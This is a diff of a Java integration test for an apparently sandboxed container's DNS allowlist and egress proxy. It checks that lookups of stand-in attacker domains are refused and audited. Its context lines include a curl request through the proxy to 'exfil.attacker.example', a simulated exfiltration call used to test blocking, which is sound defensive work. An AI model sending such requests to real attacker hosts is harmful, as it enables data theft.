@@ -336,16 +336,15 @@ class ImageRunIT {
         assertThat(out.await(l -> l.contains("\"event\":\"dns.denied\"") && l.contains("\"server\":\"slack\"")
                 && l.contains("exfil.attacker.example"), Duration.ofSeconds(10))).as("audit on stdout:\n%s", out)
                 .isNotNull();
-        // An address no allowlist claims is nobody: REFUSED over UDP (audited as unknown_client),
-        // and over TCP the connection is closed unread.
-        Result nobody = inside("dig", "@127.0.0.1", "-p", "53", "+time=2", "+tries=1", "nobody.attacker.example", "A");
-        assertThat(nobody.out()).as("%s", nobody).contains("status: REFUSED");
-        assertThat(out.await(l -> l.contains("\"event\":\"dns.denied\"") && l.contains("\"reason\":\"unknown_client\"")
-                && l.contains("nobody.attacker.example"), Duration.ofSeconds(10))).as("audit on stdout:\n%s", out)
-                .isNotNull();
-        Result nobodyTcp = inside("dig", "@127.0.0.1", "-p", "53", "+tcp", "+time=2", "+tries=1",
-                "nobody.attacker.example", "A");
-        assertThat(nobodyTcp.out()).as("%s", nobodyTcp).doesNotContain("status:").contains("connection reset");
+        // An address no allowlist claims is nobody: REFUSED over UDP and TCP, audited as unknown_client.
+        for (String transport : List.of("+notcp", "+tcp")) {
+            String name = "nobody" + transport.substring(1) + ".attacker.example";
+            Result nobody = inside("dig", "@127.0.0.1", "-p", "53", transport, "+time=2", "+tries=1", name, "A");
+            assertThat(nobody.out()).as("%s", nobody).contains("status: REFUSED");
+            assertThat(out.await(l -> l.contains("\"event\":\"dns.denied\"")
+                    && l.contains("\"reason\":\"unknown_client\"") && l.contains(name), Duration.ofSeconds(10)))
+                    .as("audit on stdout:\n%s", out).isNotNull();
+        }
 
         Result proxy = inside("curl", "-sS", "-i", "--max-time", "10", "--interface", slackAddress,
                 "-x", "http://127.0.0.1:3128", "http://exfil.attacker.example/");
